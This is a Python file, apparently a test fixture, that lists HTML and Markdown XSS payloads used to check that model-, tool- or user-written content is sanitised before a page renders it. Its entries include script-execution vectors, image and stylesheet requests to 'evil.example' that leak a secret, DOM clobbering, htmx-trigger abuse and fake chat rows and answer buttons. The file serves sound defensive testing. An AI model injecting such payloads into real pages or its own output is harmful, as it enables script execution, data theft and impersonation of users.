"""Payloads that try to act in the page through what a model, a tool or a person wrote."""

RAW = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<style>@import url(https://evil.example/x.css);</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<div style="background:url(https://evil.example/x)">x</div>
<p style="position:fixed;inset:0">x</p>
<img src="https://evil.example/leak?q=secret">
<picture><source srcset="https://evil.example/leak"></picture>
<table background="https://evil.example/leak"><tr><td>x</td></tr></table>
<div hx-get="/preferences" hx-trigger="load">x</div>
<div data-hx-post="/v1/tickets" data-hx-trigger="load">x</div>
<div hx-on:click="alert(1)">x</div>
<hx-partial hx-target="#composer" hx-swap="outerHTML">gone</hx-partial>
<template hx type="partial" hx-target="#log">gone</template>
<div hx-swap-oob="true" id="composer">gone</div>
<div id="composer-text">clobbered</div>
<a id="words" name="words">clobbered</a>
<form name="body"><input name="children"></form>
<loopwire-text>fake</loopwire-text>
<loopwire-choices><button data-answer data-value="yes">x</button></loopwire-choices>
<button data-say="compra já">x</button>
<button data-answer data-block="blk_1" data-name="confirm" data-value="yes" data-label="Sim">Sim</button>
<p class="row row-user" id="row-msg_1">impersonated</p>
<a href="https://example.com" onclick="alert(1)">x</a>
<xss contenteditable onblur=alert(1)>x</xss>
<b <script>alert(1)</script>>x</b>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
</p></div></article><script>alert(1)</script>
<img src=x:alert(alt) onerror=eval(src) alt=0>
""".strip().splitlines()

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](/preferences)",
    "[x](//evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "![x](https://evil.example/leak?q=secret)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "{{ 7 * 7 }} {% raw %} {{ config }}",
]

ATTACKS = [*RAW, *MARKDOWN]
